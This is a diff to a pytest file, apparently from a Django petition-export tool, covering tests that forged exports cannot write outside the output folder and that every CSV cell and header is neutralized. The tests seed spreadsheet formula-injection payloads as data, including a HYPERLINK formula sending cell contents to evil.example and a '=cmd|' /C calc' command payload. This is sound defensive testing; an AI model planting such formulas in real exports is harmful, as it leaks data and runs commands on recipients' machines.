@@ -19,6 +19,7 @@ from django.urls import reverse
 from concerted.core import export as export_format
 from concerted.core import keys, sealing
 from concerted.core.reveal import safe_cell
+from concerted.core.testing import export_columns, reseal_columns
 from concerted.petitions.signing import sign
 
 pytestmark = pytest.mark.django_db
@@ -80,6 +81,7 @@ def test_a_forged_export_cant_write_outside_out(tmp_path, key_file, private_key,
         data = sealing.open_sealed(private_key, base64.b64decode(record["sealed"]), kind=export["kind"], ids=ids)
         forged = sealing.seal(private_key.public_key, kind=kind, ids=ids, data=data)
         record["sealed"] = base64.b64encode(forged).decode()
+        reseal_columns(export, private_key, record, export_columns(export, private_key, record), kind=kind)
     export["kind"] = kind
     export["parent"]["slug"] = slug
     before = files_under(tmp_path)
@@ -90,10 +92,13 @@ def test_a_forged_export_cant_write_outside_out(tmp_path, key_file, private_key,
     assert outside == []
 
 
-def test_every_cell_and_header_is_neutralized(tmp_path, key_file, export):
+def test_every_cell_and_header_is_neutralized(tmp_path, key_file, private_key, export):
     for record in export["records"]:
-        record['=HYPERLINK("http://evil.example/?"&A1)'] = "+SUM(1,2)"
-        record["@import"] = {"nested": "=1+1"}
+        # Column names and values a forging server seals in (it has the public key).
+        columns = export_columns(export, private_key, record)
+        columns['=HYPERLINK("http://evil.example/?"&A1)'] = "+SUM(1,2)"
+        columns["@import"] = {"nested": "=1+1"}
+        reseal_columns(export, private_key, record, columns)
     out, stdout, _stderr = reveal(tmp_path, key_file, export)
     (csv_file,) = out.glob("*.csv")
     rows = list(csv.reader(io.StringIO(csv_file.read_text(encoding="utf-8"))))
@@ -101,6 +106,7 @@ def test_every_cell_and_header_is_neutralized(tmp_path, key_file, export):
         for cell in row:
             assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (cell, rows[0])
     assert "'=cmd|' /C calc'!A0" in [cell for row in rows for cell in row]
+    assert "'+SUM(1,2)" in rows[1] and '\'=HYPERLINK("http://evil.example/?"&A1)' in rows[0]
     assert "Opened 3 record(s)" in stdout
 
 
